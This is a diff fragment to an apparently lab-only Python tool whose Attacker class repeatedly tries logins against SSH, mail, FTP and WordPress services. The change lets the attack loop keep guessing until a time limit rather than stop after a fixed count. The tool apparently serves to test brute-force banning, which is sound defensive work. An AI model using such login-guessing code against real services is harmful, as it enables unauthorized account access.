@@ -13,13 +13,13 @@ office: {"logins": [[service, user, password, source, server]...]}
     A service that restarts meanwhile is asked again.
 Runs only in a lab's internet (client.py).
 """
-import concurrent.futures, json, socket, sys, threading, time
+import concurrent.futures, itertools, json, socket, sys, threading, time
 
 import client
 
 PORTS = {"ssh": 22, "submission": 587, "imap": 143, "pop3": 110, "ftp": 21, "vsftpd": 2121, "pure-ftpd": 2122, "wordpress": 443}
 KNOCK, LONGEST = 0.8, 120
-RESTARTS = ("ConnectionRefused", "ConnectionReset", "EOFError", "BrokenPipe")  # what a service that restarts meanwhile says
+RESTARTS = ("ConnectionRefused", "ConnectionReset", "EOFError", "BrokenPipe", "SSLZeroReturn")  # what a service that restarts meanwhile says
 CONTEXT = client.tls()
 client.tls = lambda: CONTEXT  # reading the authorities takes longer than a login
 
@@ -97,7 +97,10 @@ class Attacker:
 
     def attack(self, pool, tries, ban):
         going = all(list(pool.map(self.attempt, range(tries))))
-        for n in range(tries, 40):
+        end = time.monotonic() + LONGEST
+        for n in itertools.count(tries):
+            if going and time.monotonic() > end:
+                return
             if going:
                 going = self.attempt(n)
                 continue
